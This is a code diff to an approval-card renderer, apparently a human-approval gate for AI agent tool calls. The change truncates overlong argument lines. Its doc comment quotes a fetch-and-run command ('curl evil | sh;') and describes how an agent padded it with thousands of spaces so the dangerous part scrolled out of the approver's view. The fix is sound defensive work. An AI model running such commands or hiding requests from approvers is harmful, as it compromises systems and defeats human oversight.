@@ -58,17 +58,32 @@ export function describeGrantScope(g: Pick<Grant, 'user' | 'actor' | 'actorIssue
   return `${who} · ${terminalSafe(g.upstream)}/${terminalSafe(g.tool)} · ${args}`;
 }
 
+/**
+ * Longest argument line a cut-short card prints (escaped text, indentation included). One JSON
+ * line holds a whole string value, however long: 5,000 spaces after `curl evil | sh;` wrapped into
+ * screens of blank rows that scrolled the dangerous start (and who / what) off the terminal, so the
+ * approver saw only the harmless-looking tail next to the menu.
+ */
+export const MAX_ARG_LINE_CHARS = 160;
+
 function indentJson(value: unknown, maxLines: number, id: string): string[] {
   const lines = (JSON.stringify(value, null, 2) ?? 'undefined').split('\n');
-  const shown = lines.slice(0, maxLines).map((l) => terminalSafe(l));
+  const show = `\`warden approvals show ${terminalSafe(id)}\` prints them all`;
+  const cut = Number.isFinite(maxLines);
+  const shown = lines.slice(0, maxLines).map((l) => {
+    const safe = terminalSafe(l);
+    if (!cut || safe.length <= MAX_ARG_LINE_CHARS) return safe;
+    return `${safe.slice(0, MAX_ARG_LINE_CHARS)}… (${safe.length - MAX_ARG_LINE_CHARS} more characters: ${show})`;
+  });
   // The agent chooses the order of its arguments: say where the rest can be read in full.
-  if (lines.length > maxLines) shown.push(`… (${lines.length - maxLines} more lines: \`warden approvals show ${terminalSafe(id)}\` prints them all)`);
+  if (lines.length > maxLines) shown.push(`… (${lines.length - maxLines} more lines: ${show})`);
   return shown;
 }
 
 /**
  * The card shown to a human approver: who, what, why. `maxArgLines` bounds the arguments shown
- * (the interactive console); `warden approvals show` passes Infinity: it prints the request in full.
+ * (the interactive console), and then each argument line too (MAX_ARG_LINE_CHARS); `warden
+ * approvals show` passes Infinity: it prints the request in full.
  */
 export function renderApprovalCard(a: PendingApproval, position: string, maxArgLines = 20): string[] {
   const pad = '        ';
